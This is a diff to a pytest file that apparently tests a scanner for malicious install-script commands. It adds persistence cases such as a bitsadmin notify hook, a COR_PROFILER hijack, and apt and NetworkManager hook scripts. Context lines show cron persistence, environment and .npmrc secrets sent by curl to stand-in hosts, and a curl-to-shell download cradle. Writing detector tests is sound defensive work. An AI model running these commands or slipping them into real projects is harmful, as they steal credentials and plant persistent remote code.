@@ -317,6 +317,10 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("(crontab -l; echo \"@reboot nohup sh $HOME/.local/x.sh &\") | crontab -", "install-script/scheduled-task"),
     ("cp upd.sh /etc/cron.d/node-upd", "install-script/scheduled-task"),
     ("pm2 start envd --name envd ; pm2 save --force ; pm2 startup", "install-script/scheduled-task"),
+    ("bitsadmin /SetNotifyCmdLine upd %TEMP%\\u.exe NUL", "install-script/scheduled-task"),
+    ("setx COR_ENABLE_PROFILING 1 && setx COR_PROFILER {FAKE0000-0000-0000-0000-000000000000}", "install-script/scheduled-task"),
+    ("cp hook.conf /etc/apt/apt.conf.d/99npm", "install-script/scheduled-task"),
+    ("install -m 755 up.sh /etc/NetworkManager/dispatcher.d/90-up", "install-script/scheduled-task"),
     ("curl -s -X POST --data \"$(env | base64)\" https://hooks.slack.com.invalid/services/T/B/x", "install-script/sends-secrets"),
     ("cat ~/.npmrc | curl -s -T - https://drop.example/u", "install-script/sends-secrets"),
     ("curl -fsSL https://cdn.example/x.sh | /bin/sh", "install-script/fetch-and-execute"),
@@ -345,6 +349,7 @@ def test_persistence_global_installs_and_download_cradles(command, rule):
 @pytest.mark.parametrize("command", ["crontab -l", "grep -q nameserver /etc/resolv.conf && echo online", "cat /etc/resolv.conf",
                                      "resolvectl status", "reg save HKCU\\Software\\MyApp settings.reg",
                                      "pm2 start ecosystem.config.js", "networksetup -getautoproxyurl Wi-Fi",
+                                     "ls /etc/apt/apt.conf.d", "bitsadmin /list /allusers",
                                      "gsettings get org.gnome.system.proxy mode",
                                      "reg query \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v ProxyServer"])
 def test_reading_cron_dns_and_proxy_settings_is_not_changing_them(command):
